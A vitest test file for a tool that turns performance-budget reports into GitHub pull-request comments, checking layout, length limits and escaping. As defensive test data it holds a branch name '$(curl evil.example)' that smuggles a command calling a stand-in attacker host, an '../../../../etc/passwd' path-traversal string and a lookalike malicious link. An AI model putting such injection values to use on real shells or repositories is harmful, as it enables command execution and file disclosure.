import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { renderComment, renderFailure } from "../../src/report/comment.ts";
import type { CommentOptions } from "../../src/report/comment.ts";
import type { Report } from "../../src/types.ts";
import * as build from "../fixtures/reports/build.ts";
import { attacks, hostileReport } from "../fixtures/reports/hostile.ts";
import { reports } from "../fixtures/reports/index.ts";
import { kinds } from "../fixtures/reports/kinds.ts";
import { pullRequests } from "../fixtures/reports/pull-requests.ts";
import { rich } from "../fixtures/reports/rich.ts";
import { expectInert } from "./gfm.ts";

const named = Object.entries(pullRequests);
const links = ["https://github.com/acme/shop/", "https://web.dev/articles/"];

const of = (name: string) => {
  const found = pullRequests[name];
  if (!found) throw new Error(`no fixture ${name}`);
  return renderComment(found.report, found.options);
};
const plain = (source: string) => source.replaceAll("\u00a0", " ");

it.each(named)("%s reads as agreed", (_, { report, options }) => {
  expect(renderComment(report, options)).toMatchSnapshot();
});

it.each([...named, ...Object.entries(kinds)])(
  "%s renders to nothing but our own elements and links",
  (_, { report, options }) => {
    expectInert(renderComment(report, options), links);
  },
);

const ofKind = (name: string) => {
  const found = kinds[name];
  if (!found) throw new Error(`no fixture ${name}`);
  return plain(renderComment(found.report, found.options));
};

it("folds the table where every limit passes", () => {
  const source = ofKind("all pass");
  expect(source.split("\n")[0]).toBe("### ✅ Passed: all 11 limits are kept");
  expect(source.slice(0, source.indexOf("<details>"))).not.toContain("| ");
  expect(source).toContain("<summary>✅ Kept: 11 limits</summary>");
});

it("has no table of more than two columns, nor a name in one that is wider than half a phone", () => {
  const everything = [...named, ...Object.entries(kinds), ["rich", { report: rich, options: {} }] as const];
  for (const [name, { report, options }] of everything)
    for (const row of renderComment(report, options).match(/^\| .*/gm) ?? []) {
      expect(row.match(/(?<!\\)\|/g), name).toHaveLength(3);
      for (const [, words = ""] of row.matchAll(/`([^`]*)`/g)) expect(words.length).toBeLessThanOrEqual(20);
    }
});

it("says why base is missing on a line of its own right below the headline, before all else", () => {
  const lines = ofKind("base failed").split("\n");
  expect(lines[2]).toMatch(
    /^⚠️ \*\*Nothing was compared with base: base \(main, `98ab00d4`\) could not be built: npm run build/,
  );
});

it("says once why several limits have no data, with the list of them", () => {
  const source = ofKind("missing values");
  const open = source.slice(0, source.indexOf("<details>"));
  expect(open.match(/answered 503/g)).toHaveLength(1);
  expect(open).toContain(
    "- **LCP**, **INP**, **CLS**, **FCP**, **TBT**, **TTFB** on `/cart` have no data: every visit failed",
  );
});

it("says of a limit that fails neither that another one is undecided nor that its change is", () => {
  const { report } = kinds["undecided"] ?? {};
  if (!report) throw new Error("no fixture");
  const [max, ...others] = report.verdicts;
  if (!max) throw new Error("the fixture has verdicts");
  const undecided = others[0]?.delta ?? null;
  const one = { ...report, verdicts: [{ ...max, status: "fail" as const, delta: undecided }, ...others] };
  const row = (shown: Report) => renderComment(shown).match(/^\| .*LCP.*/m)?.[0] ?? "";
  expect(row(report)).toMatch(/undecided: .*suspected regression/);
  expect(row(one)).toMatch(/exceeded: /);
  expect(row(one)).not.toMatch(/undecided|suspected|inconclusive/);
});

describe("a line of this change", () => {
  const { report, options } = kinds["monorepo"] ?? {};
  if (!report || !options) throw new Error("no fixture");
  const file = "/blob/3f2a91c0b7d4e5f60718293a4b5c6d7e8f901223/apps/storefront/src/components/Hero.tsx#L27";
  const address = `https://github.com/acme/shop${file}`;
  const fixFirst = (shown: Report, more: CommentOptions = options) =>
    /^\*\*Fix first: .*$/m.exec(renderComment(shown, more))?.[0] ?? "";

  it("links to its file at head's commit, from the folder of the app", () => {
    expect(fixFirst(report)).toContain(`([\`src/components/Hero.tsx:27\`](${address}))**`);
  });

  it("is plain where the repository or the commit is not known, or the file is outside of it", () => {
    expect(fixFirst(report, {})).not.toContain("](");
    const { revisions } = report;
    const head = { ...revisions.head, sha: "main" };
    expect(fixFirst({ ...report, revisions: { ...revisions, head } })).not.toContain("](");
    const [found] = report.findings;
    if (!found) throw new Error("the fixture has findings");
    const evidence = ["../../../../etc/passwd:1, changed since base: x"];
    expect(fixFirst({ ...report, findings: [{ ...found, evidence }] })).not.toContain("](");
  });

  it("links to base's commit where head no longer has it", () => {
    const [found] = report.findings;
    if (!found) throw new Error("the fixture has findings");
    const evidence = ["index.html:8, removed since base: <link rel=preload>"];
    expect(fixFirst({ ...report, findings: [{ ...found, evidence }] })).toContain(
      "/blob/98ab00d41c5e7f2a6b3d8e9f0a1b2c3d4e5f6071/apps/storefront/index.html#L8",
    );
  });

  it("links to no module that only a source map names", () => {
    const [found] = report.findings;
    if (!found) throw new Error("the fixture has findings");
    const title = "parse in node_modules/moment/moment.js:41 is slow";
    expect(fixFirst({ ...report, findings: [{ ...found, title, evidence: [] }] })).not.toContain("](");
  });
});

it("has the verdict on its first line and the failures before all else", () => {
  const lines = plain(of("many kinds")).split("\n");
  expect(lines[0]).toBe(
    "### ❌ storefront · Failed: LCP on cart is 274 ms slower than base (limit +137.5 ms), and 2 more limits",
  );
  const rows = lines.filter((line) => line.startsWith("| ") && line.includes("**"));
  expect(rows[0]).toBe(
    "| ❌ **LCP** `cart`<br>exceeded: ≤ 2.5 s, ≤ +137.5 ms (5%) | 2.75 s → **3.02 s**<br>+274 ms (+10.0 %)<br>[+231, +310] ms, regressed |",
  );
  const signs = rows.slice(0, 7).map((row) => row.slice(2, 3));
  expect(signs.join("")).toBe("❌❌❌❔⚠✅✅");
});

it("shows every limit of the report once in its tables, and says of each how it ended", () => {
  for (const name of ["many kinds", "one failure", "twenty failures", "all green"]) {
    const { verdicts } = pullRequests[name]?.report ?? { verdicts: [] };
    const words = of(name).match(/(?:exceeded:|kept:|undecided:|warns above) .*?(?:<br>| \|)/g) ?? [];
    const bounds = words.join("").match(/≤|warns above/g)?.length;
    expect(bounds, name).toBe(verdicts.length);
  }
});

it("is two lines where nothing changed", () => {
  expect(plain(of("nothing changed"))).toBe(
    "### ✅ Passed: all 7 limits are kept\nNothing changed against base [`main (98ab00d)`](https://github.com/acme/shop/commit/98ab00d41c5e7f2a6b3d8e9f0a1b2c3d4e5f6071): every value that was compared is the same. [HTML report](https://github.com/acme/shop/actions/runs/4711/artifacts/815) · [log of the run](https://github.com/acme/shop/actions/runs/4711)\n",
  );
  const { report } = pullRequests["nothing changed"] as { report: Report };
  const [first] = report.verdicts;
  if (!first?.delta) throw new Error("the fixture is compared");
  const but = (more: Partial<Report>) => renderComment({ ...report, ...more }).split("\n").length;
  expect(but({})).toBe(3);
  const undecided = { ...first, status: "inconclusive" as const };
  const improved = { ...first, delta: { ...first.delta, verdict: "improved" as const, value: -300 } };
  const [advice] = pullRequests["many kinds"]?.report.findings ?? [];
  if (!advice) throw new Error("the fixture has findings");
  expect(but({ findings: [{ ...advice, standing: true }] })).toBe(3);
  const loosened = pullRequests["loosened by a fork"]?.report.loosened ?? [];
  const excepted = { ...first, allowed: { limit: first.metric, reason: "known", expires: "2099-01-01" } };
  const { revisions, bundle } = report;
  const [asset] = bundle.head?.assets ?? [];
  if (!bundle.head || !asset) throw new Error("the fixture has a bundle");
  const heavier = {
    ...bundle.head,
    assets: [{ ...asset, gzip: asset.gzip + 1 }, ...bundle.head.assets.slice(1)],
  };
  const failedVisits = reports["missing"]?.failedVisits ?? [];
  for (const more of [
    { verdicts: [undecided] },
    { verdicts: [improved] },
    { verdicts: [{ ...first, status: "warn" as const }, excepted] },
    { verdicts: [] },
    { outcome: "fail" as const },
    { outcome: "error" as const },
    { revisions: { ...revisions, base: null } },
    { bundle: { ...bundle, head: heavier } },
    { notes: [{ level: "warn" as const, text: "redirected", prominent: true as const }] },
    { loosened },
    { failedVisits },
    { findings: [advice] },
  ])
    expect(but({ ...more }), JSON.stringify(more).slice(0, 60)).toBeGreaterThan(8);
});

it("says above all figures what the change loosens, and that a fork made them itself", () => {
  const lines = of("loosened by a fork").split("\n");
  expect(lines[0]).toMatch(/^### ❌ Failed: .* \(limit /);
  const table = lines.findIndex((line) => line.startsWith("| "));
  const above = lines.slice(0, table).join("\n");
  expect(above).toContain("These figures come from the fork's own run.");
  expect(above).toContain("**⚠️ This change loosens its own budget**\n\n- LCP: max raised from 2 s to 2.5 s");
  expect(above).toContain("new exception for total, until `2027-01-31`: video gallery");
  expect(above).toContain("page `/checkout` is no longer visited");
});

describe("findings", () => {
  const { report } = pullRequests["many kinds"] as { report: Report };
  const [first] = report.findings;
  if (!first) throw new Error("the fixture has findings");
  const folded = (source: string) => source.slice(source.indexOf("<details>"));
  const withFindings = (...findings: Report["findings"]) => renderComment({ ...report, findings });

  it("stand in the open where they may have caused what did not pass, with what is no proof named so", () => {
    const source = withFindings({ ...first, certainty: "together" });
    expect(source.indexOf("moment is new")).toBeLessThan(source.indexOf("<details>"));
    expect(source).toContain("Likely: it changed at the same time.");
    expect(withFindings(first)).not.toContain("Likely: it changed");
  });

  it("are folded as advice where base has the same, or the metric passed", () => {
    for (const finding of [
      { ...first, standing: true },
      { ...first, metric: "FCP" },
      { ...first, metric: null },
    ]) {
      const source = withFindings(finding);
      expect(folded(source)).toContain("Other suggestions: 1");
      expect(folded(source)).toContain("moment is new");
    }
  });

  it("name their metric as the table does, say what mending may bring, and link to known places only", () => {
    const source = plain(withFindings(first));
    expect(source).toContain(
      "**Initial JS**: moment is new in the entry chunk (could save up to 61.2 kB)<br>",
    );
    expect(source).toContain("[Read more](https://developer.mozilla.org/docs/");
    const guide = "https://webpack.js.org/guides/tree-shaking/";
    expect(plain(withFindings({ ...first, link: guide }))).toContain(`[Read more](${guide})`);
    for (const link of ["https://developer.mozilla.org.evil.example/x", "http://web.dev:8080/x"])
      expect(withFindings({ ...first, link })).toContain(` \`${link}\``);
  });

  it("name files of our own server by their paths, and no saving twice", () => {
    const source = plain(
      withFindings({
        ...first,
        title: "a script weighs 61.2 kB",
        evidence: ["http://127.0.0.1:40251/assets/a.js, 61.2 kB", "https://cdn.example/b.js"],
      }),
    );
    expect(source).toContain(
      ": a script weighs 61.2 kB<br>`/assets/a.js, 61.2 kB`<details><summary>Evidence, and what to do</summary>`https://cdn.example/b.js`",
    );
  });

  it("are counted beyond the first", () => {
    const many = Array.from({ length: 20 }, (_, at) => ({ ...first, id: `${at}` }));
    expect(withFindings(...many)).toContain("More findings: 15");
  });
});

it("names the files that grew where a bundle limit did not pass, the most first, five at most", () => {
  const { report } = pullRequests["many kinds"] as { report: Report };
  const limit = { metric: "total", status: "fail" as const, limit: { value: 1, unit: "B" as const } };
  const sizes = [100, 700, 300, 50_000, 500, 600, 501, 0];
  const files = (by: readonly number[]) =>
    build.bundle(...by.map((bytes, at) => build.asset(`${at}.js`, 1_000 + bytes, { name: `${at}.js` })));
  const grown = (status: "fail" | "pass") =>
    plain(
      renderComment({
        ...report,
        findings: [],
        verdicts: [build.verdict({ ...limit, status })],
        bundle: { head: files(sizes), base: files(sizes.map(() => 0)) },
      }),
    )
      .split("\n")
      .find((line) => line.includes("Files that grew"));
  // One hundredth of 50 kB is 500 B: a file that grew by no more is not a cause.
  expect(grown("fail")?.match(/`\d\.js`/g)).toEqual(["`3.js`", "`1.js`", "`5.js`", "`6.js`"]);
  expect(grown("pass")).toBeUndefined();
});

it("says of the notes in the fold how many are warnings", () => {
  const { report } = pullRequests["all green"] as { report: Report };
  const said = (...levels: ("warn" | "info")[]) =>
    /<summary>(?:[^<]*Notes[^<]*)<\/summary>/.exec(
      plain(renderComment({ ...report, notes: levels.map((level, at) => ({ level, text: `note ${at}` })) })),
    )?.[0];
  expect(said("warn", "info")).toContain("2, 1 of them a warning");
  expect(said("warn", "warn", "info")).toContain("3, 2 of them warnings");
});

it("folds what a run that ended early left undecided, unless LCP, INP, CLS or the bundle", () => {
  const { report } = pullRequests["inconclusive"] as { report: Report };
  const [tbt] = report.verdicts;
  if (!tbt) throw new Error("the fixture has verdicts");
  const undecided = (metric: string, count: number) =>
    Array.from({ length: count }, (_, at) => ({ ...tbt, metric, page: `/${at}` }));
  const source = renderComment({ ...report, verdicts: [...undecided("TBT", 8), ...undecided("LCP", 8)] });
  const open = source.slice(0, source.indexOf("<details>"));
  expect(open.match(/❔\u00a0\*\*LCP/g)).toHaveLength(8);
  expect(open).not.toContain("TBT**");
  expect(source).toContain("<summary>❔ Undecided, or warned of: 8 more limits</summary>");
});

it("says in the open why something is undecided or warned of, unless that is too much", () => {
  const { report } = pullRequests["inconclusive"] as { report: Report };
  const open = (one: Report) => renderComment(one).split("<details>")[0];
  expect(open(report)).toContain("**Good to know**\n\n- **TBT** on `/`: suspected regression: 38 ms more");
  const [tbt] = report.verdicts;
  if (!tbt) throw new Error("the fixture has verdicts");
  const many = Array.from({ length: 7 }, (_, at) => ({ ...tbt, metric: "LCP", page: `/${at}` }));
  expect(open({ ...report, verdicts: many })).not.toContain("Good to know");
});

it("names the stage that broke, its message, and that no limit was checked", () => {
  const lines = of("build broken").split("\n");
  expect(lines[0]).toBe("### ❌ Not measured: the build failed");
  expect(of("build broken")).toContain("`npm run build ended with exit code 1: src/App.tsx(14,7)");
  expect(of("build broken")).toContain("No limits could be checked, so the gate fails.");
  // Limits without data would say it again, each.
  expect(pullRequests["build broken"]?.report.verdicts.length).toBeGreaterThan(0);
  expect(of("build broken")).not.toMatch(/no data|not visited/);
});

it("says of a run without a report what is wrong, and nothing else", () => {
  const failure = { code: "BUDGET", message: 'budget.json:3:14: unknown key "limts"' };
  expect(renderFailure(failure, { key: "shop" })).toBe(
    '### ❌ shop · Not measured: the budget is wrong\n\n`budget.json:3:14: unknown key "limts"`\n\nNo limits could be checked, so the gate fails. Fix it at the place named.\n',
  );
  expect(renderFailure({ code: null, message: "x" })).toMatch(/^### ❌ Not measured: the run failed\n/);
  for (const attack of attacks)
    expectInert(renderFailure({ code: attack, message: attack }, { key: attack }));
});

it("is two lines where nothing had to be measured", () => {
  const { report } = pullRequests["nothing changed"] as { report: Report };
  const unmeasured: Report = {
    ...report,
    summary: "nothing that this app is made of changed",
    verdicts: [],
    measurements: [],
    bundle: { head: null, base: null },
    environment: { ...report.environment, runs: 0, pairs: 0 },
  };
  expect(renderComment(unmeasured)).toBe(
    "### ✅ Passed: nothing that this app is made of changed\nNothing changed against base `main (98ab00d)`, so nothing had to be measured.\n",
  );
});

it("agrees with the outcome in its first line", () => {
  for (const report of [...Object.values(reports), ...named.map(([, one]) => one.report)]) {
    const [first = ""] = renderComment(report).split("\n");
    const fails = report.outcome === "fail" || report.outcome === "error";
    expect(first.startsWith("### ❌"), first).toBe(fails);
    if (report.outcome === "pass") expect(first).toMatch(/^### ✅ Passed/);
  }
});

it("keeps a word beside every sign", () => {
  for (const [name] of named)
    for (const [, after] of of(name).matchAll(/[❌✅⚠❔🟡🔴]\ufe0f?(.{0,5})/gu))
      expect(after).toMatch(/^[\s\u00a0](?:\*\*)?`?[A-Za-z]/);
});

it("says the same without any HTML, as an e-mail", () => {
  for (const [name] of named) {
    const text = of(name).replaceAll(/<\/?(?:details|summary|sub)>|<br>/g, "\n");
    expect(text).not.toMatch(/<[a-z]/i);
  }
});

it("calls a commit that is on no branch by its hash, once", () => {
  const { report } = pullRequests["one failure"] as { report: Report };
  const { base } = report.revisions;
  for (const ref of [base?.sha ?? "", base?.sha?.slice(0, 12) ?? ""]) {
    const revisions = { ...report.revisions, base: { ref, sha: base?.sha ?? null, dirty: false } };
    expect(renderComment({ ...report, revisions })).toContain("against base `98ab00d`\n");
  }
});

it("names base by its hash in the command to repeat it, never by a name that a shell could read", () => {
  const { report } = pullRequests["one failure"] as { report: Report };
  const base = { ref: "$(curl evil.example)", sha: "98ab00d41c5e7f2a6b3d8e9f0a1b2c3d4e5f6071", dirty: false };
  const repeat = (revision: typeof base, options?: CommentOptions) =>
    /^Repeat it locally: `([^`]*)`/m.exec(
      renderComment({ ...report, revisions: { ...report.revisions, base: revision } }, options),
    )?.[1];
  expect(repeat(base)).toBe("npx budget-check --base 98ab00d41c5e");
  expect(repeat({ ...base, sha: "$(x)" })).toBe("npx budget-check");
  const command = "cd apps/shop && npx budget-check --no-base --runs 7";
  expect(repeat(base, { command })).toBe(command);
});

describe("length", () => {
  const huge = (count: number): Report => {
    const report = reports["regressed"] as Report;
    const [first] = report.verdicts;
    if (!first) throw new Error("the fixture has verdicts");
    const many = (status: "fail" | "pass") =>
      Array.from({ length: count }, (_, at) => ({
        ...first,
        status,
        page: `page ${at}`,
        id: `${status} ${at}`,
      }));
    return {
      ...report,
      verdicts: [
        ...many("pass").map((one) => ({ ...one, metric: "FCP" })),
        ...many("fail"),
        ...report.verdicts.filter(({ metric }) => metric === "initial:js"),
      ],
    };
  };

  it.each([100, 2_000])("%d failures stay under GitHub's bound, in whole rows, and are counted", (count) => {
    const source = renderComment(huge(count));
    expect(source.length).toBeLessThanOrEqual(65_236);
    expectInert(source);
    const shown = source.match(/^\| ❌/gm)?.length ?? 0;
    const left = Number(/^(\d+) more did not fit/m.exec(source)?.[1] ?? 0);
    // All of LCP, and the initial JS.
    expect(shown + left).toBe(count + 1);
    expect(shown).toBeGreaterThan(count > 100 ? 200 : 99);
    expect(source).toContain("Repeat it locally");
    // The cause is named before the table, and stands in the open before the rest of it.
    const open = source.slice(0, source.indexOf("<details><summary>❌ Failed"));
    expect(open.match(/^\| ❌/gm)).toHaveLength(12);
    const cause = "moment is new in the entry chunk";
    expect(source.split("\n")[2]).toBe(`**Fix first, for Initial JS: ${cause}**`);
    expect(source).toContain(`**Why**\n\n- **Initial JS**: ${cause}`);
    if (count > 100)
      expect(source).toMatch(/Left out, since it did not fit: .*✅ Kept: 2000 limits \(2000\)/);
  });

  it("holds where a report warns of itself without end", () => {
    const { report } = pullRequests["loosened by a fork"] as { report: Report };
    const note = { level: "warn" as const, text: "no figure is right ".repeat(40), prominent: true as const };
    const source = renderComment({ ...report, notes: Array.from({ length: 1_000 }, () => note) });
    expect(source.length).toBeLessThanOrEqual(65_236);
    expect(source).toContain("and 990 more; the full report has them.");
    expect(source).toContain("| ❌");
  });

  it("holds for any report", () => {
    const words = fc.string({ unit: "binary", minLength: 1, maxLength: 400 });
    fc.assert(
      fc.property(words, fc.integer({ min: 1, max: 25 }), (text, times) => {
        const one = hostileReport(text.repeat(3));
        const again = <T>(items: readonly T[]) => Array.from({ length: times }, () => items).flat();
        const verdicts = again(one.verdicts).map((verdict, at) => ({ ...verdict, page: `${text} ${at}` }));
        const [findings, failedVisits] = [again(one.findings), again(one.failedVisits)];
        const source = renderComment(
          { ...one, verdicts, findings, failedVisits },
          { title: text, fork: true },
        );
        expect(source.length).toBeLessThanOrEqual(65_236);
        expect(source).toMatch(/<\/sub>\n\n<\/details>\n$/);
        expect(source.match(/<details>/g)?.length).toBe(source.match(/<\/details>/g)?.length);
      }),
      { numRuns: 5 },
    );
  }, 60_000);
});

describe("text from outside", () => {
  it.each(attacks)("%j stays inert in every field", (attack) => {
    const options = {
      title: attack,
      key: attack,
      repositoryUrl: attack,
      runUrl: attack,
      htmlUrl: attack,
      command: attack,
    };
    const source = renderComment(hostileReport(attack), { ...options, fork: true });
    expect(source.length).toBeLessThanOrEqual(65_236);
    expectInert(source);
  });

  it.each(attacks)("%j stays inert as the label of a metric that is not called by its id", (attack) => {
    const whole = hostileReport("words");
    const verdicts = whole.verdicts.map((verdict) => ({ ...verdict, metric: "FID", label: attack }));
    expectInert(renderComment({ ...whole, verdicts }));
  });
});
